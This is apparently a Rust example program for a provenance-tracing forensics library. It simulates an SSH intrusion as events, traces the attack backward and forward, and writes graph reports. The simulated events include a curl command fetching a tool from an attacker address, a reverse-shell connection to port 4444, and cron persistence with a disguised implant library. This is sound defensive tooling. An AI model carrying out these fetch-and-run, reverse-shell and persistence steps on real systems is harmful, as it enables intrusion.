//! A simulated intrusion traced back and forward; writes the reports a person reads.
//!
//! `cargo run -p mamori-prov --example trace_demo -- OUT_DIR` writes `back.json`, `back.dot`,
//! `back.svg` (when Graphviz is installed) and the same for `forward.*`.

use std::path::PathBuf;

use mamori_prov::testkit::{inet, unix, Proc, Sim};
use mamori_prov::{
    backtrack, build, dot, forward, svg, BuildOptions, Direction, PruneRules, Report, StartSpec,
};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let out = PathBuf::from(
        std::env::args()
            .nth(1)
            .unwrap_or_else(|| "trace-demo".into()),
    );
    std::fs::create_dir_all(&out)?;

    // 2025-12-06T12:00:00Z: sshd takes a benign login, then the attacker's; the attacker's shell
    // downloads a tool, opens a reverse shell, plants persistence and an implant.
    let mut sim = Sim::new(1_765_022_400_000_000_000);
    let mut sshd = Proc::new(812, 1, "/usr/sbin/sshd");
    let lfd = sim.bind(&mut sshd, inet("0.0.0.0", 22));
    sim.accept(&mut sshd, lfd, inet("198.51.100.23", 50412));
    let mut alice = sim.fork(&sshd, 900);
    sim.advance_ms(4000);
    sim.accept(&mut sshd, lfd, inet("203.0.113.7", 41922));
    let mut session = sim.fork(&sshd, 951);
    sim.exec(&mut alice, "/bin/bash", 3, &["-bash"]);
    sim.open_read(&mut alice, "/etc/passwd", 4);
    sim.create(&mut alice, "/home/alice/notes.txt", 5000);
    sim.exec(&mut session, "/bin/bash", 3, &["-bash"]);
    sim.open_read(&mut session, "/etc/ld.so.cache", 6);
    sim.open_read(&mut session, "/proc/self/status", 7);
    let mut curl = sim.fork(&session, 960);
    sim.exec(
        &mut curl,
        "/usr/bin/curl",
        8,
        &["curl", "-so", "/tmp/.x", "http://203.0.113.7/x"],
    );
    sim.connect(&mut curl, inet("203.0.113.7", 80));
    sim.create(&mut curl, "/tmp/.x", 7001);
    sim.exit(&curl);
    sim.chmod(&session, "/tmp/.x", 7001, 0o755);
    let mut x = sim.fork(&session, 961);
    sim.exec(&mut x, "/tmp/.x", 7001, &["/tmp/.x", "-d"]);
    sim.connect(&mut x, inet("203.0.113.7", 4444));
    sim.connect(&mut x, unix("/run/dbus/system_bus_socket"));
    sim.open_write(&mut x, "/etc/cron.d/sysupdate", 7002);
    sim.create(&mut x, "/var/tmp/.cache.db", 7003);
    sim.rename(
        &x,
        "/var/tmp/.cache.db",
        "/usr/lib/libsysupdate.so",
        7003,
        None,
    );
    sim.kill(&x, &alice, 9);

    let g = build(&sim.events, &BuildOptions::default());
    let rules = PruneRules::default();
    let spec = "file:/etc/cron.d/sysupdate";
    let start: StartSpec = spec.parse()?;
    let back = backtrack(&g, start.resolve(&g, Direction::Backward)?, &rules);
    let report = Report::new(&g, &back, spec);
    println!(
        "entry: {}",
        report.entry.as_ref().map_or("-".into(), |e| e.why.clone())
    );
    for s in &report.chain {
        match &s.by {
            Some(b) => println!("  --{}@{}--> {}", b.op, b.at.utc, s.label),
            None => println!("  {}", s.label),
        }
    }
    write(&out, "back", &report.to_json(), &dot(&g, &back))?;

    let entry = back.entry.as_ref().ok_or("no entry point")?;
    let fwd = forward(&g, entry.anchor(), &rules);
    let freport = Report::new(&g, &fwd, &format!("forward from {}", g.label(entry.node)));
    for m in &freport.modified_files {
        println!("modified: {} ({:?})", m.paths.join(" ← "), m.ops);
    }
    write(&out, "forward", &freport.to_json(), &dot(&g, &fwd))?;
    Ok(())
}

fn write(dir: &std::path::Path, name: &str, json: &str, dot_text: &str) -> std::io::Result<()> {
    std::fs::write(dir.join(format!("{name}.json")), json)?;
    std::fs::write(dir.join(format!("{name}.dot")), dot_text)?;
    match svg(dot_text) {
        Ok(s) => std::fs::write(dir.join(format!("{name}.svg")), s)?,
        Err(e) => eprintln!("{name}.svg not written: {e}"),
    }
    Ok(())
}
